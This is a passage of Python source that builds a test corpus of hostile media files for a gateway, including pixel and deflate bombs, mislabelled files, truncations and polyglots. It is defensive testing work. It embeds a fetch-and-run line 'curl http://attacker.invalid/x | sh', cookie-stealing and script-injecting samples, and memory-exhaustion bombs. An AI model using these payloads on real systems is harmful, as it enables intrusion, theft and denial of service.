"""A corpus of hostile media files, generated here: pixel bombs, lying headers, truncations, polyglots.

Every file is built from real encoders (Pillow, PyAV, soundfile, zipfile) and
then broken on purpose at the byte level: headers patched to declare absurd
sizes or lengths, files cut short, other formats appended or embedded. Each
:class:`Sample` says which content part carries it, the media type its data
URI declares, and what the gateway must do with it: ``refuse`` (an
OpenAI-shaped 4xx) or ``serve`` (a documented repair, e.g. a WAV whose data
was cut short is served with its true length).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
import soundfile as sf
from PIL import Image

_EXT = {
    "image_url": "img",
    "input_audio": "audio",
    "audio_url": "audio",
    "video_url": "video",
}


@dataclass(frozen=True, slots=True)
class Sample:
    name: str
    category: str
    part: str  # image_url | input_audio | audio_url | video_url
    mediatype: str  # what the data URI declares
    data: bytes
    expect: str = "refuse"  # refuse | serve
    what: str = ""

    def content_part(self, payload_b64: str) -> dict:
        if self.part == "input_audio":
            fmt = self.mediatype.rpartition("/")[2].removeprefix("x-")
            return {"type": "input_audio", "input_audio": {"data": payload_b64, "format": fmt}}
        uri = f"data:{self.mediatype};base64,{payload_b64}"
        return {"type": self.part, self.part: {"url": uri}}


# -- building blocks -----------------------------------------------------------------------------------------


def _noise(w: int, h: int, seed: int = 7) -> Image.Image:
    """Noisy RGB pixels: they do not compress, so image data dominates every file (cuts land in it)."""
    rng = np.random.default_rng(seed)
    return Image.fromarray(rng.integers(0, 256, (h, w, 3), dtype=np.uint8))


def _encode(im: Image.Image, fmt: str, **kw) -> bytes:
    buf = io.BytesIO()
    im.save(buf, fmt, **kw)
    return buf.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


_PNG_SIG = b"\x89PNG\r\n\x1a\n"


def _png(
    width: int,
    height: int,
    idat: bytes,
    depth: int = 8,
    colour: int = 2,
    interlace: int = 0,
    extra: list[tuple[bytes, bytes]] = (),
) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    chunks = [_png_chunk(b"IHDR", ihdr)]
    chunks += [_png_chunk(k, b) for k, b in extra]
    chunks += [_png_chunk(b"IDAT", idat), _png_chunk(b"IEND", b"")]
    return _PNG_SIG + b"".join(chunks)


def _deflate_bomb(raw_bytes: int) -> bytes:
    """``raw_bytes`` of zeros deflated: about a thousandth of the size."""
    comp = zlib.compressobj(9)
    block = b"\x00" * (1 << 20)
    out = []
    for _ in range(raw_bytes >> 20):
        out.append(comp.compress(block))
    out.append(comp.flush())
    return b"".join(out)


def _zip(**files: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in files.items():
            z.writestr(name, body)
    return buf.getvalue()


_PAYLOAD = _zip(
    **{"run.sh": b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n", "notes.txt": b"hidden " * 200}
)


def _wav(pcm: np.ndarray, rate: int, subtype: str = "PCM_16") -> bytes:
    buf = io.BytesIO()
    sf.write(buf, pcm, rate, format="WAV", subtype=subtype)
    return buf.getvalue()


def _tone(seconds: float, rate: int = 16000) -> np.ndarray:
    t = np.arange(int(seconds * rate)) / rate
    return (0.3 * np.sin(2 * np.pi * 440 * t) * 32767).astype(np.int16)


def _flac(seconds: float, rate: int = 16000) -> bytes:
    buf = io.BytesIO()
    rng = np.random.default_rng(3)  # noise: FLAC frames stay full-size, so a cut lands inside one
    pcm = (rng.normal(0, 0.2, int(seconds * rate)) * 32767).clip(-32768, 32767).astype(np.int16)
    sf.write(buf, pcm, rate, format="FLAC")
    return buf.getvalue()


def _mp4(
    seconds: float = 2.0,
    fps: int = 10,
    size: tuple[int, int] = (64, 64),
    faststart: bool = False,
    audio: bool = False,
    video: bool = True,
) -> bytes:
    """A real H.264 (baseline) MP4; frames of noise so every frame costs bytes."""
    w, h = size
    buf = io.BytesIO()
    rng = np.random.default_rng(5)
    with av.open(buf, mode="w", format="mp4") as out:
        vs = None
        if video:
            vs = out.add_stream("libx264", rate=Fraction(fps))
            vs.width, vs.height, vs.pix_fmt = w, h, "yuv420p"
            vs.options = {"preset": "ultrafast", "profile": "baseline"}
        ast = out.add_stream("aac", rate=16000) if audio else None
        if vs is not None:
            for _ in range(int(seconds * fps)):
                arr = rng.integers(0, 256, (h, w, 3), dtype=np.uint8)
                for p in vs.encode(av.VideoFrame.from_ndarray(arr, format="rgb24")):
                    out.mux(p)
            for p in vs.encode(None):
                out.mux(p)
        if ast is not None:
            for start in range(0, int(seconds * 16000), 1024):
                frame = av.AudioFrame.from_ndarray(
                    (rng.normal(0, 0.1, (1, 1024))).astype(np.float32), format="fltp", layout="mono"
                )
                frame.sample_rate, frame.pts = 16000, start
                for p in ast.encode(frame):
                    out.mux(p)
            for p in ast.encode(None):
                out.mux(p)
    return _faststart(buf.getvalue()) if faststart else buf.getvalue()


# -- ISO-BMFF (MP4) surgery ----------------------------------------------------------------------------------

_CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"stbl", b"edts", b"dinf", b"udta"}
# Boxes whose payload starts with fields before their child boxes: stsd (full box + entry count) and
# avc1 (visual sample entry).
_PREFIXED = {b"stsd": 8, b"avc1": 78}


@dataclass
class _Box:
    kind: bytes
    payload: bytes  # leaf boxes; for containers the bytes before the children (see _PREFIXED)
    children: list[_Box] | None = None

    def encode(self) -> bytes:
        body = self.payload + b"".join(c.encode() for c in self.children or [])
        return struct.pack(">I", 8 + len(body)) + self.kind + body


def _parse_boxes(data: bytes) -> list[_Box]:
    out, pos = [], 0
    while pos + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, pos)
        if size < 8 or pos + size > len(data):
            raise ValueError(f"box {kind!r} at {pos} does not fit")
        body = data[pos + 8 : pos + size]
        if kind in _CONTAINERS or kind in _PREFIXED:
            skip = _PREFIXED.get(kind, 0)
            out.append(_Box(kind, body[:skip], _parse_boxes(body[skip:])))
        else:
            out.append(_Box(kind, body))
        pos += size
    return out


def _find(boxes: list[_Box], kind: bytes) -> Iterator[_Box]:
    for b in boxes:
        if b.kind == kind:
            yield b
        if b.children:
            yield from _find(b.children, kind)


def _patch_mp4(data: bytes, fn: Callable[[list[_Box]], None]) -> bytes:
    """Rewrite ``moov`` (sizes recomputed); the file must keep moov after mdat so chunk offsets stay true."""
    boxes = _parse_boxes(data)
    kinds = [b.kind for b in boxes]
    assert kinds.index(b"mdat") < kinds.index(b"moov"), kinds
    fn(boxes)
    return b"".join(b.encode() for b in boxes)


def _faststart(data: bytes) -> bytes:
    """moov moved before mdat (what ``-movflags faststart`` does), chunk offsets shifted to match."""
    boxes = _parse_boxes(data)
    (moov,) = [b for b in boxes if b.kind == b"moov"]
    shift = len(moov.encode())
    for stco in _find([moov], b"stco"):
        count = struct.unpack_from(">I", stco.payload, 4)[0]
        offsets = struct.unpack_from(f">{count}I", stco.payload, 8)
        stco.payload = stco.payload[:8] + struct.pack(f">{count}I", *(o + shift for o in offsets))
    rest = [b for b in boxes if b.kind != b"moov"]
    at = [b.kind for b in rest].index(b"mdat")
    return b"".join(b.encode() for b in [*rest[:at], moov, *rest[at:]])


def _set_u32(payload: bytes, offset: int, value: int) -> bytes:
    return payload[:offset] + struct.pack(">I", min(value, 0xFFFFFFFF)) + payload[offset + 4 :]


def _declare_frames(boxes: list[_Box], frames: int, constant_size: bool) -> None:
    """mvhd/tkhd/mdhd durations, stts and stsz counts all say ``frames`` frames (version-0 boxes)."""
    (mdhd,) = _find(boxes, b"mdhd")
    (stts,) = _find(boxes, b"stts")
    delta = struct.unpack_from(">I", stts.payload, 12)[0]  # first entry's sample delta (media timescale)
    mdhd_scale = struct.unpack_from(">I", mdhd.payload, 12)[0]
    (mvhd,) = _find(boxes, b"mvhd")
    mv_scale = struct.unpack_from(">I", mvhd.payload, 12)[0]
    seconds = frames * delta / mdhd_scale
    mvhd.payload = _set_u32(mvhd.payload, 16, int(seconds * mv_scale))
    for tkhd in _find(boxes, b"tkhd"):
        tkhd.payload = _set_u32(tkhd.payload, 20, int(seconds * mv_scale))
    mdhd.payload = _set_u32(mdhd.payload, 16, frames * delta)
    stts.payload = struct.pack(">III", 0, 1, frames) + struct.pack(">I", delta)
    (stsz,) = _find(boxes, b"stsz")
    size = struct.unpack_from(">I", stsz.payload, 4)[0]
    if constant_size:
        stsz.payload = struct.pack(">III", 0, max(1, size or 512), frames)
    else:
        stsz.payload = stsz.payload[:8] + struct.pack(">I", frames) + stsz.payload[12:]


def _declare_dimensions(boxes: list[_Box], width: int, height: int, where: set[str]) -> None:
    if "tkhd" in where:
        for tkhd in _find(boxes, b"tkhd"):
            tkhd.payload = (
                tkhd.payload[:76] + struct.pack(">II", width << 16, height << 16) + tkhd.payload[84:]
            )
    (avc1,) = _find(boxes, b"avc1")
    if "stsd" in where:
        avc1.payload = avc1.payload[:24] + struct.pack(">HH", width, height) + avc1.payload[28:]
    if "sps" in where:
        (avcc,) = _find(boxes, b"avcC")
        p = avcc.payload
        (sps_len,) = struct.unpack_from(">H", p, 6)
        sps = p[8 : 8 + sps_len]
        new = _sps_with_size(sps, width, height)
        avcc.payload = p[:6] + struct.pack(">H", len(new)) + new + p[8 + sps_len :]


# -- H.264 SPS rewriting (exp-Golomb) ------------------------------------------------------------------------


class _Bits:
    def __init__(self, data: bytes) -> None:
        self.bits = "".join(f"{b:08b}" for b in data)
        self.pos = 0

    def u(self, n: int) -> int:
        v = int(self.bits[self.pos : self.pos + n], 2)
        self.pos += n
        return v

    def ue(self) -> int:
        zeros = 0
        while self.bits[self.pos] == "0":
            zeros += 1
            self.pos += 1
        self.pos += 1
        return (1 << zeros) - 1 + (int(self.bits[self.pos : self.pos + zeros], 2) if zeros else 0)

    def skip_ue(self) -> None:
        self.ue()


def _ue(v: int) -> str:
    code = f"{v + 1:b}"
    return "0" * (len(code) - 1) + code


def _unescape(nal: bytes) -> bytes:
    return nal.replace(b"\x00\x00\x03", b"\x00\x00")


def _escape(rbsp: bytes) -> bytes:
    out, zeros = bytearray(), 0
    for b in rbsp:
        if zeros >= 2 and b <= 3:
            out.append(3)
            zeros = 0
        out.append(b)
        zeros = zeros + 1 if b == 0 else 0
    return bytes(out)


def _sps_with_size(sps_nal: bytes, width: int, height: int) -> bytes:
    """A baseline-profile SPS with pic_width/height_in_mbs rewritten to declare ``width``×``height``."""
    rbsp = _unescape(sps_nal[1:])
    r = _Bits(rbsp)
    profile = r.u(8)
    if profile != 66:
        raise ValueError(f"expected a baseline SPS, got profile {profile}")
    r.u(16)  # constraint flags, level
    r.skip_ue()  # seq_parameter_set_id
    r.skip_ue()  # log2_max_frame_num_minus4
    poc_type = r.ue()
    if poc_type == 0:
        r.skip_ue()
    elif poc_type == 1:
        raise ValueError("pic_order_cnt_type 1 is not rewritten")
    r.skip_ue()  # max_num_ref_frames
    r.u(1)  # gaps_in_frame_num_allowed
    head = r.bits[: r.pos]
    r.skip_ue()
    r.skip_ue()
    tail = r.bits[r.pos :]
    bits = head + _ue(width // 16 - 1) + _ue(height // 16 - 1) + tail
    bits += "0" * (-len(bits) % 8)
    out = int(bits, 2).to_bytes(len(bits) // 8, "big")
    return sps_nal[:1] + _escape(out)


# -- the corpus ----------------------------------------------------------------------------------------------


def _pixel_bombs() -> Iterator[Sample]:
    bomb = _deflate_bomb(16 << 20)  # 16 MiB of zeros in ~16 KB
    yield Sample(
        "png-50k-deflate-bomb",
        "pixel_bomb",
        "image_url",
        "image/png",
        _png(50_000, 50_000, bomb),
        what="IHDR 50,000x50,000 RGB, IDAT a 16 MiB deflate bomb",
    )
    yield Sample(
        "png-100k-deflate-bomb", "pixel_bomb", "image_url", "image/png", _png(100_000, 100_000, bomb)
    )
    yield Sample(
        "png-max-dimensions",
        "pixel_bomb",
        "image_url",
        "image/png",
        _png(2**31 - 1, 2**31 - 1, bomb),
        what="the largest IHDR the format allows",
    )
    yield Sample("png-2e9-wide-strip", "pixel_bomb", "image_url", "image/png", _png(2_000_000_000, 1, bomb))
    yield Sample(
        "png-16bit-rgba-30k",
        "pixel_bomb",
        "image_url",
        "image/png",
        _png(30_000, 30_000, bomb, depth=16, colour=6),
    )
    yield Sample(
        "png-1bit-palette-60k",
        "pixel_bomb",
        "image_url",
        "image/png",
        _png(60_000, 60_000, bomb, depth=1, colour=3, extra=[(b"PLTE", b"\x00\x00\x00\xff\xff\xff")]),
    )
    yield Sample(
        "png-interlaced-40k", "pixel_bomb", "image_url", "image/png", _png(40_000, 40_000, bomb, interlace=1)
    )
    small_idat = zlib.compress(b"\x00" + b"\x00\x00\x00" * 16, 9) * 1
    ztxt = b"Comment\x00\x00" + _deflate_bomb(64 << 20)
    yield Sample(
        "png-ztxt-bomb",
        "pixel_bomb",
        "image_url",
        "image/png",
        _png(16, 1, small_idat, extra=[(b"zTXt", ztxt)]),
        what="a 64 MiB zTXt text chunk in 64 KB",
    )
    iccp = b"icc\x00\x00" + _deflate_bomb(64 << 20)
    yield Sample(
        "png-iccp-bomb",
        "pixel_bomb",
        "image_url",
        "image/png",
        _png(16, 1, small_idat, extra=[(b"iCCP", iccp)]),
    )
    # APNG: a small canvas whose frame control chunk declares a huge frame.
    actl = struct.pack(">II", 1, 0)
    fctl = struct.pack(">IIIIIHHBB", 0, 50_000, 50_000, 0, 0, 1, 10, 0, 0)
    yield Sample(
        "apng-frame-50k",
        "pixel_bomb",
        "image_url",
        "image/png",
        _png(16, 1, small_idat, extra=[(b"acTL", actl), (b"fcTL", fctl)]),
    )

    # GIF: logical screen and image descriptor at the format's 65,535 maximum, one tiny LZW block.
    def gif(screen: tuple[int, int], frame: tuple[int, int]) -> bytes:
        head = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
        desc = b"\x2c" + struct.pack("<HHHHB", 0, 0, *frame, 0)
        return head + desc + b"\x02\x02\x44\x01\x00" + b"\x3b"

    yield Sample(
        "gif-screen-65535", "pixel_bomb", "image_url", "image/gif", gif((65535, 65535), (65535, 65535))
    )
    yield Sample(
        "gif-frame-65535-on-small-screen",
        "pixel_bomb",
        "image_url",
        "image/gif",
        gif((16, 16), (65535, 65535)),
    )

    def bmp(width: int, height: int, bpp: int = 24, compression: int = 0, pixels: bytes = b"") -> bytes:
        info = struct.pack(
            "<IiiHHIIiiII", 40, width, height, 1, bpp, compression, len(pixels), 2835, 2835, 0, 0
        )
        palette = b"\x00\x00\x00\x00" * 256 if bpp == 8 else b""
        offset = 14 + len(info) + len(palette)
        return b"BM" + struct.pack("<IHHI", offset + len(pixels), 0, 0, offset) + info + palette + pixels

    yield Sample("bmp-100k", "pixel_bomb", "image_url", "image/bmp", bmp(100_000, 100_000))
    yield Sample("bmp-top-down-100k", "pixel_bomb", "image_url", "image/bmp", bmp(100_000, -100_000))
    yield Sample(
        "bmp-rle8-30k",
        "pixel_bomb",
        "image_url",
        "image/bmp",
        bmp(30_000, 30_000, bpp=8, compression=1, pixels=b"\xff\x00" * 64 + b"\x00\x01"),
        what="RLE8: a few bytes that expand to 900 MP",
    )

    def tiff(width: int, height: int, tiled: bool = False) -> bytes:
        strip = zlib.compress(b"\x00" * 4096)
        entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1)]
        if tiled:
            entries += [
                (322, 4, 1, 256),
                (323, 4, 1, 256),
                (324, 4, 1, 8 + 2 + 12 * 9 + 4),
                (325, 4, 1, len(strip)),
            ]
        else:
            entries += [(273, 4, 1, 8 + 2 + 12 * 8 + 4), (278, 4, 1, height), (279, 4, 1, len(strip))]
        entries.sort()
        ifd = (
            struct.pack("<H", len(entries))
            + b"".join(
                struct.pack("<HHII", t, ty, n, v) if ty == 4 else struct.pack("<HHIHH", t, ty, n, v, 0)
                for t, ty, n, v in entries
            )
            + b"\x00\x00\x00\x00"
        )
        return b"II*\x00" + struct.pack("<I", 8) + ifd + strip

    yield Sample("tiff-100k-strip", "pixel_bomb", "image_url", "image/tiff", tiff(100_000, 100_000))
    yield Sample(
        "tiff-100k-tiled", "pixel_bomb", "image_url", "image/tiff", tiff(100_000, 100_000, tiled=True)
    )

    def riff_webp(*chunks: tuple[bytes, bytes]) -> bytes:
        body = b"WEBP" + b"".join(
            k + struct.pack("<I", len(b)) + b + b"\x00" * (len(b) & 1) for k, b in chunks
        )
        return b"RIFF" + struct.pack("<I", len(body)) + body

    real_vp8l = _encode(Image.new("RGB", (4, 4), (1, 2, 3)), "WEBP", lossless=True)
    vp8l_body = real_vp8l[20:]
    vp8x = struct.pack("<B3x", 0) + (2**24 - 1).to_bytes(3, "little") + (2**24 - 1).to_bytes(3, "little")
    yield Sample(
        "webp-vp8x-canvas-16m",
        "pixel_bomb",
        "image_url",
        "image/webp",
        riff_webp((b"VP8X", vp8x), (b"VP8L", vp8l_body)),
        what="VP8X canvas 16,777,216 x 16,777,216",
    )
    vp8 = b"\x10\x02\x00" + b"\x9d\x01\x2a" + struct.pack("<HH", 16383, 16383) + b"\x00" * 32
    yield Sample("webp-vp8-16383", "pixel_bomb", "image_url", "image/webp", riff_webp((b"VP8 ", vp8)))
    bits = (16383) | (16383 << 14)
    vp8l = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 32
    yield Sample("webp-vp8l-16384", "pixel_bomb", "image_url", "image/webp", riff_webp((b"VP8L", vp8l)))

    base = _encode(Image.new("RGB", (16, 16), (90, 90, 90)), "JPEG", quality=80)
    for name, marker, (w, h) in (
        ("jpeg-sof0-65500", b"\xc0", (65500, 65500)),
        ("jpeg-sof2-65535", b"\xc2", (65535, 65535)),
        ("jpeg-sof0-height-0", b"\xc0", (65535, 0)),
    ):
        data = bytearray(base)
        pos = data.find(b"\xff\xc0")
        data[pos + 1 : pos + 2] = marker
        struct.pack_into(">HH", data, pos + 5, h, w)
        yield Sample(name, "pixel_bomb", "image_url", "image/jpeg", bytes(data))


def _lying_headers() -> Iterator[Sample]:
    photo = _encode(_noise(64, 48), "JPEG", quality=85)
    png = _encode(_noise(64, 48), "PNG")
    gif = _encode(_noise(32, 32).convert("P"), "GIF")
    wav = _wav(_tone(1.0), 16000)
    flac = _flac(1.0)
    yield Sample("mime-png-holds-jpeg", "lying_header", "image_url", "image/png", photo)
    yield Sample("mime-jpeg-holds-gif", "lying_header", "image_url", "image/jpeg", gif)
    yield Sample("mime-webp-holds-png", "lying_header", "image_url", "image/webp", png)
    yield Sample(
        "mime-html-holds-png",
        "lying_header",
        "image_url",
        "text/html",
        png,
        what="a real PNG declared as text/html",
    )
    yield Sample("mime-png-holds-wav", "lying_header", "image_url", "image/png", wav)
    yield Sample("mime-wav-holds-flac", "lying_header", "audio_url", "audio/wav", flac)
    yield Sample(
        "input-audio-wav-holds-flac",
        "lying_header",
        "input_audio",
        "audio/wav",
        flac,
        what="input_audio.format says wav",
    )
    yield Sample(
        "mime-mp4-holds-gif",
        "lying_header",
        "video_url",
        "video/mp4",
        _encode(
            _noise(32, 32).convert("P"),
            "GIF",
            save_all=True,
            append_images=[_noise(32, 32, s).convert("P") for s in range(8)],
            duration=100,
        ),
    )
    yield Sample("mime-mp4-holds-wav", "lying_header", "video_url", "video/mp4", wav)
    yield Sample(
        "mime-mp4-holds-audio-only-mp4",
        "lying_header",
        "video_url",
        "video/mp4",
        _mp4(1.0, audio=True, video=False),
    )
    html = b"<!doctype html><html><body><script>fetch('/admin').then(r=>r.text())</script></body></html>"
    svg = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000">'
        b'<script>alert(1)</script><rect width="100%" height="100%"/></svg>'
    )
    yield Sample("html-as-png", "lying_header", "image_url", "image/png", html)
    yield Sample("svg-as-png", "lying_header", "image_url", "image/png", svg)
    yield Sample("svg-as-svg", "lying_header", "image_url", "image/svg+xml", svg)
    yield Sample("svg-as-jpeg", "lying_header", "image_url", "image/jpeg", svg)
    yield Sample("html-as-mp4", "lying_header", "video_url", "video/mp4", html)
    rng = np.random.default_rng(11)
    junk = rng.integers(0, 256, 4096, dtype=np.uint8).tobytes()
    for name, part, mime, magic in (
        ("magic-png-then-garbage", "image_url", "image/png", _PNG_SIG),
        ("magic-jpeg-then-garbage", "image_url", "image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
        ("magic-gif-then-garbage", "image_url", "image/gif", b"GIF89a"),
        (
            "magic-webp-then-garbage",
            "image_url",
            "image/webp",
            b"RIFF" + struct.pack("<I", 4100) + b"WEBPVP8 ",
        ),
        ("magic-bmp-then-garbage", "image_url", "image/bmp", b"BM"),
        ("magic-tiff-then-garbage", "image_url", "image/tiff", b"II*\x00"),
        (
            "magic-wav-then-garbage",
            "input_audio",
            "audio/wav",
            b"RIFF" + struct.pack("<I", 4100) + b"WAVEfmt ",
        ),
        ("magic-flac-then-garbage", "audio_url", "audio/flac", b"fLaC"),
        ("magic-ogg-then-garbage", "audio_url", "audio/ogg", b"OggS\x00\x02"),
        ("magic-id3-then-garbage", "input_audio", "audio/mp3", b"ID3\x04\x00\x00\x00\x00\x00\x00"),
        (
            "magic-mp4-then-garbage",
            "video_url",
            "video/mp4",
            b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2",
        ),
    ):
        yield Sample(name, "garbage", part, mime, magic + junk)
    zeros = b"\x00" * 4096
    yield Sample("zeros-as-image", "garbage", "image_url", "image/png", zeros)
    yield Sample("zeros-as-audio", "garbage", "input_audio", "audio/wav", zeros)
    yield Sample("zeros-as-video", "garbage", "video_url", "video/mp4", zeros)
    yield Sample("empty-image", "garbage", "image_url", "image/png", b"")


def _cuts(data: bytes, *points: float) -> Iterator[tuple[str, bytes]]:
    for p in points:
        n = int(len(data) * p) if isinstance(p, float) else (p if p > 0 else len(data) + p)
        label = f"{int(p * 100)}pct" if isinstance(p, float) else (f"{p}b" if p > 0 else f"minus-{-p}b")
        yield label, data[:n]


def _truncated() -> Iterator[Sample]:
    png = _encode(_noise(256, 192), "PNG")
    jpg = _encode(_noise(256, 192), "JPEG", quality=90)
    gif = _encode(_noise(128, 96).convert("P"), "GIF")
    webp = _encode(_noise(128, 96), "WEBP", quality=80)
    for label, cut in _cuts(png, 8, 33, 0.5, 0.9, -12):
        yield Sample(f"png-cut-{label}", "truncated", "image_url", "image/png", cut)
    for label, cut in _cuts(jpg, 2, 0.2, 0.5, 0.9, -2):
        yield Sample(f"jpeg-cut-{label}", "truncated", "image_url", "image/jpeg", cut)
    for label, cut in _cuts(gif, 6, 0.5, 0.9, -1):
        yield Sample(f"gif-cut-{label}", "truncated", "image_url", "image/gif", cut)
    for label, cut in _cuts(webp, 12, 0.5, 0.9):
        yield Sample(f"webp-cut-{label}", "truncated", "image_url", "image/webp", cut)
    wav = _wav(_tone(4.0), 16000)
    for label, cut in _cuts(wav, 20, 44):
        yield Sample(f"wav-cut-{label}", "truncated", "input_audio", "audio/wav", cut)
    for label, cut in _cuts(wav, 0.5, 0.9):
        # PCM samples stay valid up to the cut: served with its true length (audio-header-repaired).
        yield Sample(
            f"wav-cut-{label}",
            "truncated",
            "input_audio",
            "audio/wav",
            cut,
            expect="serve",
            what="served with the samples it holds",
        )
    flac = _flac(4.0)
    for label, cut in _cuts(flac, 4, 42, 0.5, 0.9):
        yield Sample(f"flac-cut-{label}", "truncated", "audio_url", "audio/flac", cut)
    mp4 = _mp4(2.0)
    for label, cut in _cuts(mp4, 32, 0.5, 0.9):
        yield Sample(f"mp4-cut-{label}", "truncated", "video_url", "video/mp4", cut)
    fast = _mp4(2.0, faststart=True)
    for label, cut in _cuts(fast, 0.3, 0.6, 0.9):
        yield Sample(
            f"mp4-faststart-cut-{label}",
            "truncated",
            "video_url",
            "video/mp4",
            cut,
            what="moov first: the header survives, the frames do not",
        )


def _polyglots() -> Iterator[Sample]:
    jpg = _encode(_noise(64, 48), "JPEG", quality=85)
    png = _encode(_noise(64, 48), "PNG")
    yield Sample("jpeg+zip", "polyglot", "image_url", "image/jpeg", jpg + _PAYLOAD)
    yield Sample("png+zip", "polyglot", "image_url", "image/png", png + _PAYLOAD)
    # A ZIP hidden in a JPEG APP segment: the scan data is small, so the archive's end record is near the end.
    app = b"\xff\xef" + struct.pack(">H", len(_PAYLOAD) + 2) + _PAYLOAD
    yield Sample("jpeg-app-segment-zip", "polyglot", "image_url", "image/jpeg", jpg[:2] + app + jpg[2:])
    # GIF/JavaScript: the header's width bytes open a JS comment, the trailer closes it and runs code.
    gif = bytearray(_encode(_noise(32, 32).convert("P"), "GIF"))
    gif[6:8] = b"/*"
    yield Sample(
        "gif+script", "polyglot", "image_url", "image/gif", bytes(gif) + b"*/=1;alert(document.cookie);//"
    )
    # PDF+JPEG: the PDF header in a JPEG comment (readers look in the first KB), the PDF body after EOI.
    pdf_body = (
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )
    com = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    pdf_jpeg = jpg[:2] + b"\xff\xfe" + struct.pack(">H", len(com) + 2) + com + jpg[2:] + pdf_body
    yield Sample("pdf+jpeg", "polyglot", "image_url", "image/jpeg", pdf_jpeg)
    yield Sample(
        "png+html-after-iend",
        "polyglot",
        "image_url",
        "image/png",
        png + b"<html><script>alert(1)</script></html>",
    )
    yield Sample(
        "webp+zip",
        "polyglot",
        "image_url",
        "image/webp",
        _encode(_noise(64, 48), "WEBP", quality=80) + _PAYLOAD,
    )
    yield Sample("wav+zip", "polyglot", "input_audio", "audio/wav", _wav(_tone(1.0), 16000) + _PAYLOAD)
    yield Sample("flac+zip", "polyglot", "audio_url", "audio/flac", _flac(1.0) + _PAYLOAD)
    mp4 = _mp4(1.0)
    free = struct.pack(">I", 8 + len(_PAYLOAD)) + b"free" + _PAYLOAD
    yield Sample(
        "zip-in-mp4-free-box",
        "polyglot",
        "video_url",
        "video/mp4",
        mp4 + free,
        what="a valid MP4 whose last box is a free box holding a ZIP archive",
    )
    yield Sample("mp4+zip", "polyglot", "video_url", "video/mp4", mp4 + _PAYLOAD)
    yield Sample("zip-with-jpeg-inside", "polyglot", "image_url", "image/jpeg", _zip(**{"a.jpg": jpg}))


def _audio_headers() -> Iterator[Sample]:
    def fmt_chunk(channels: int, rate: int, byte_rate: int, align: int, bits: int) -> bytes:
        return b"fmt " + struct.pack("<IHHIIHH", 16, 1, channels, rate, byte_rate, align, bits)

    def riff(fmt: bytes, data_size: int, data: bytes) -> bytes:
        body = b"WAVE" + fmt + b"data" + struct.pack("<I", data_size) + data
        return b"RIFF" + struct.pack("<I", min(0xFFFFFFFF, 4 + len(fmt) + 8 + data_size)) + body

    pcm8 = (np.sin(np.arange(8000) / 3) * 60 + 128).astype(np.uint8).tobytes()
    pcm16 = _tone(1.0).tobytes()
    yield Sample(
        "wav-declares-100-hours",
        "audio_header",
        "input_audio",
        "audio/wav",
        riff(fmt_chunk(1, 8000, 8000, 1, 8), 100 * 3600 * 8000, pcm8),
        what="8 kHz 8-bit: 2.88 GB of data declared, 8 KB present",
    )
    yield Sample(
        "wav-data-size-4gb",
        "audio_header",
        "input_audio",
        "audio/wav",
        riff(fmt_chunk(1, 16000, 32000, 2, 16), 0xFFFFFFF0, pcm16),
        what="data size 0xFFFFFFF0 (37 h at 16 kHz), 1 s present",
    )
    yield Sample(
        "wav-riff-and-data-sizes-disagree",
        "audio_header",
        "input_audio",
        "audio/wav",
        b"RIFF"
        + struct.pack("<I", 0x7FFFFFFF)
        + riff(fmt_chunk(1, 16000, 32000, 2, 16), 2_000_000_000, pcm16)[8:],
    )
    for name, args in (
        ("wav-sample-rate-0", (1, 0, 0, 2, 16)),
        ("wav-channels-0", (0, 16000, 0, 0, 16)),
        ("wav-bits-0", (1, 16000, 32000, 2, 0)),
        ("wav-channels-65535", (65535, 16000, 16000 * 2 * 65535 & 0xFFFFFFFF, 2 * 65535 & 0xFFFF, 16)),
        ("wav-sample-rate-4e9", (1, 4_000_000_000, 8_000_000_000 & 0xFFFFFFFF, 2, 16)),
    ):
        yield Sample(
            name, "audio_header", "input_audio", "audio/wav", riff(fmt_chunk(*args), len(pcm16), pcm16)
        )
    yield Sample(
        "wav-block-align-0",
        "audio_header",
        "input_audio",
        "audio/wav",
        riff(fmt_chunk(1, 16000, 32000, 0, 16), len(pcm16), pcm16),
        expect="serve",
        what="readers derive the frame size; served with a rewritten header (audio-header-repaired)",
    )
    huge_fmt = b"fmt " + struct.pack("<I", 0xFFFFFFF0) + struct.pack("<HHIIHH", 1, 1, 16000, 32000, 2, 16)
    yield Sample(
        "wav-fmt-chunk-4gb",
        "audio_header",
        "input_audio",
        "audio/wav",
        b"RIFF"
        + struct.pack("<I", 36 + len(pcm16))
        + b"WAVE"
        + huge_fmt
        + b"data"
        + struct.pack("<I", len(pcm16))
        + pcm16,
    )
    flac = bytearray(_flac(1.0))
    # STREAMINFO: 20-bit rate, 3-bit channels-1, 5-bit bps-1, 36-bit total samples, from byte 18 of the file.
    hours = bytearray(flac)
    packed = int.from_bytes(hours[18:26], "big")
    total = 100 * 3600 * 16000
    packed = (packed & ~((1 << 36) - 1)) | total
    hours[18:26] = packed.to_bytes(8, "big")
    yield Sample("flac-declares-100-hours", "audio_header", "audio_url", "audio/flac", bytes(hours))


def declared_frames_mp4(frames: int) -> bytes:
    """A real 1 s, 10-frame MP4 whose headers and sample tables declare ``frames`` constant-size samples."""
